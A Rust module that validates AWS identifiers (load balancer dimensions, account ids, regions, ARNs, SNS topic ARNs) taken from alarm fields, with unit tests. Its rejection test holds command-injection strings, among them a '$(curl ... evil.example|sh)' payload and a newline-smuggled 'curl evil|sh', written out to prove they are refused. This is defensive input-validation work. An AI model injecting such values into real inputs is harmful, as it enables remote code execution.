//! The formats of AWS identifiers that arrive in alarms. Anyone who may publish to the alarm
//! topic or call `SetAlarmState` controls an alarm's fields, and these values end up in API
//! calls and in the commands a report prints; so a value that fits no AWS format is refused
//! as bad input instead of being carried along.

/// A load balancer name (ELB and ELBv2): 1-32 letters, digits and hyphens, not starting or
/// ending with a hyphen.
pub fn is_lb_name(text: &str) -> bool {
    (1..=32).contains(&text.len())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && !text.starts_with('-')
        && !text.ends_with('-')
}

/// `PREFIX/NAME/ID` with a 16-digit hexadecimal id: the ALB dimension (`app/...`) and the
/// target group dimension (`targetgroup/...`).
fn is_resource_dimension(text: &str, prefix: &str) -> bool {
    let mut parts = text.split('/');
    matches!(
        (parts.next(), parts.next(), parts.next(), parts.next()),
        (Some(p), Some(name), Some(id), None)
            if p == prefix && is_lb_name(name) && is_hex_id(id)
    )
}

fn is_hex_id(text: &str) -> bool {
    text.len() == 16 && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// The ALB's `LoadBalancer` dimension: `app/NAME/16-hex`.
pub fn is_alb_dimension(text: &str) -> bool {
    is_resource_dimension(text, "app")
}

/// The NLB's `LoadBalancer` dimension: `net/NAME/16-hex`.
pub fn is_nlb_dimension(text: &str) -> bool {
    is_resource_dimension(text, "net")
}

/// The `TargetGroup` dimension: `targetgroup/NAME/16-hex`.
pub fn is_target_group_dimension(text: &str) -> bool {
    is_resource_dimension(text, "targetgroup")
}

/// A 12-digit account id.
pub fn is_account_id(text: &str) -> bool {
    text.len() == 12 && text.bytes().all(|b| b.is_ascii_digit())
}

/// A region code of any partition: `eu-west-1`, `us-gov-west-1`, `cn-north-1`,
/// `eusc-de-east-1`: lower-case words and a trailing number.
pub fn is_region_code(text: &str) -> bool {
    let parts: Vec<&str> = text.split('-').collect();
    parts.len() >= 3
        && parts.iter().all(|p| {
            !p.is_empty()
                && p.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        })
        && parts
            .last()
            .is_some_and(|p| p.bytes().all(|b| b.is_ascii_digit()))
}

/// The partition a region belongs to, for ARNs built before any call.
pub fn partition_of(region: &str) -> &'static str {
    if region.starts_with("cn-") {
        "aws-cn"
    } else if region.starts_with("us-gov-") {
        "aws-us-gov"
    } else if region.starts_with("eusc-") {
        "aws-eusc"
    } else {
        "aws"
    }
}

/// The DNS suffix of a region's service endpoints (`sts.REGION.SUFFIX`).
pub fn dns_suffix_of(region: &str) -> &'static str {
    match partition_of(region) {
        "aws-cn" => "amazonaws.com.cn",
        "aws-eusc" => "amazonaws.eu",
        _ => "amazonaws.com",
    }
}

/// An EKS cluster name as EKS accepts it: 1-100 characters, letters, digits, hyphens and
/// underscores, starting with a letter or digit.
pub fn is_cluster_name(text: &str) -> bool {
    (1..=100).contains(&text.len())
        && text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// An ARN: `arn:PARTITION:SERVICE:REGION:ACCOUNT:RESOURCE`, with a known partition, an empty
/// or valid region, an empty or 12-digit account, and no control characters (an alarm's
/// name, and so its ARN, may hold spaces).
pub fn is_arn(text: &str) -> bool {
    let parts: Vec<&str> = text.splitn(6, ':').collect();
    let [arn, partition, service, region, account, resource] = parts[..] else {
        return false;
    };
    arn == "arn"
        && (partition == "aws" || partition.starts_with("aws-"))
        && partition
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b == b'-')
        && !service.is_empty()
        && service
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && (region.is_empty() || is_region_code(region))
        && (account.is_empty() || is_account_id(account))
        && !resource.is_empty()
        && !text.chars().any(char::is_control)
}

/// The parts of an SNS topic ARN (`arn:PARTITION:sns:REGION:ACCOUNT:NAME`): the one parser
/// every configuration and command uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TopicArn<'a> {
    pub partition: &'a str,
    pub region: &'a str,
    pub account: &'a str,
    pub name: &'a str,
}

/// `text` as an SNS topic ARN, if it is one.
pub fn topic_arn(text: &str) -> Option<TopicArn<'_>> {
    let parts: Vec<&str> = text.split(':').collect();
    match parts.as_slice() {
        ["arn", partition, "sns", region, account, name]
            if is_arn(text)
                && is_region_code(region)
                && is_account_id(account)
                && !name.is_empty() =>
        {
            Some(TopicArn {
                partition,
                region,
                account,
                name,
            })
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn real_identifiers_pass() {
        assert!(is_lb_name("k8s-shop-checkout-6f1e2d3c4b"));
        assert!(is_alb_dimension(
            "app/k8s-shop-checkout-6f1e2d3c4b/50dc6c495c0c9188"
        ));
        assert!(is_target_group_dimension(
            "targetgroup/k8s-shop-checkou-0a1b2c3d4e/6d0ecf831eec9f09"
        ));
        assert!(is_account_id("111122223333"));
        for region in ["eu-west-1", "us-gov-west-1", "cn-north-1", "eusc-de-east-1"] {
            assert!(is_region_code(region), "{region}");
        }
        for arn in [
            "arn:aws:cloudwatch:eu-west-1:111122223333:alarm:k8s shop 504s",
            "arn:aws-cn:sns:cn-north-1:111122223333:alarms",
            "arn:aws-us-gov:elasticloadbalancing:us-gov-west-1:111122223333:loadbalancer/app/a/50dc6c495c0c9188",
            "arn:aws-eusc:sns:eusc-de-east-1:111122223333:alarms",
        ] {
            assert!(is_arn(arn), "{arn}");
        }
    }

    #[test]
    fn forged_identifiers_fail() {
        for dimension in [
            "app/web/$(curl${IFS}-s${IFS}evil.example|sh)",
            "app/web/50dc6c495c0c918",
            "app/web/50dc6c495c0c9188/extra",
            "app/-web/50dc6c495c0c9188",
            "app/we b/50dc6c495c0c9188",
            "net/web/50dc6c495c0c9188",
            "app/web/50dc6c495c0c918g",
        ] {
            assert!(!is_alb_dimension(dimension), "{dimension}");
        }
        for name in ["", "a;b", "`id`", "x".repeat(33).as_str(), "web\n"] {
            assert!(!is_lb_name(name), "{name:?}");
        }
        assert!(!is_account_id("11112222333a"));
        assert!(!is_region_code("eu-west-1;rm"));
        assert!(!is_arn(
            "arn:aws:sns:eu-west-1:111122223333:x\n$ curl evil|sh"
        ));
        assert!(!is_arn("arn:evil:sns:eu-west-1:111122223333:x"));
        assert!(!is_arn("arn:aws:sns:eu-west-1 :111122223333:x"));
        assert_eq!(
            topic_arn("arn:aws-cn:sns:cn-north-1:111122223333:plans")
                .map(|t| (t.region, t.account, t.name)),
            Some(("cn-north-1", "111122223333", "plans"))
        );
        for bad in [
            "plans",
            "arn:aws:sqs:eu-west-1:111122223333:q",
            "arn:aws:sns:eu-west-1:1111:q",
            "arn:aws:sns::111122223333:q",
        ] {
            assert!(topic_arn(bad).is_none(), "{bad}");
        }
    }
}
